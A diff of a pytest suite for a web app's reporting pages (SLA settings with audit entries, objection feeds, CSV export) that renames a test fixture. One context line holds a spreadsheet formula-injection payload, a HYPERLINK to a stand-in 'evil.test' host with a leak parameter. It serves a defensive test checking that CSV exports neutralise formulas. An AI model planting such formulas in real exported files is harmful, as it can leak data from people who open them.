@@ -37,8 +37,10 @@ FORMULA = '=HYPERLINK("http://evil.test/?leak","Click me")'
 
 
 @pytest.fixture
-def marketer(hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]) -> Browser:
-    with hub.state.db.write() as session:
+def marketer(
+    embedded_hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]
+) -> Browser:
+    with embedded_hub.state.db.write() as session:
         report_world.build(session)
     return browser(MARKETER_EMAIL)
 
@@ -183,14 +185,14 @@ def test_the_over_sla_list_pages(marketer: Browser, monkeypatch: pytest.MonkeyPa
 
 
 def test_the_sla_form_changes_the_setting_with_an_audit_entry(
-    hub: EmbeddedHub, marketer: Browser
+    embedded_hub: EmbeddedHub, marketer: Browser
 ) -> None:
     answer = marketer.post_form(
         f"/workspace/reports/speed-to-lead/sla?rep={WORLD.ben}", {"hours": "40"}
     )
     assert answer.status_code == 303
     assert answer.headers["location"] == f"/workspace/reports/speed-to-lead?rep={WORLD.ben}"
-    with hub.state.db.read() as session:
+    with embedded_hub.state.db.read() as session:
         assert sla_hours(session) == 40
         entries = session.scalars(select(m.AuditEntry).where(m.AuditEntry.action == "settings.sla"))
         [entry] = entries.all()
@@ -204,7 +206,7 @@ def test_the_sla_form_changes_the_setting_with_an_audit_entry(
         refused = marketer.post_form("/workspace/reports/speed-to-lead/sla", {"hours": bad})
         assert refused.status_code == 400, bad
         assert "SLA" in refused.text and 'role="alert"' in refused.text
-    with hub.state.db.read() as session:
+    with embedded_hub.state.db.read() as session:
         assert sla_hours(session) == 40
         audited = select(m.AuditEntry).where(m.AuditEntry.action == "settings.sla")
         assert len(session.scalars(audited).all()) == 1
@@ -250,10 +252,10 @@ def test_objections_show_words_as_text_and_the_feed_pages(
 
 
 def test_objection_csv_keeps_words_plain_and_neutralises_formulas(
-    hub: EmbeddedHub, marketer: Browser
+    embedded_hub: EmbeddedHub, marketer: Browser
 ) -> None:
     at = datetime(2026, 3, 18, 9, 0, tzinfo=UTC)
-    with hub.state.db.write() as session:
+    with embedded_hub.state.db.write() as session:
         session.add(
             m.ObjectionRow(
                 id="obj-formula",
@@ -323,7 +325,7 @@ def test_htmx_gets_the_results_alone_and_unknown_tables_are_404(marketer: Browse
 
 
 def test_an_empty_hub_renders_every_report(
-    hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]
+    embedded_hub: EmbeddedHub, people: People, browser: Callable[[str], Browser]
 ) -> None:
     client = browser(MARKETER_EMAIL)
     for slug in REPORTS:
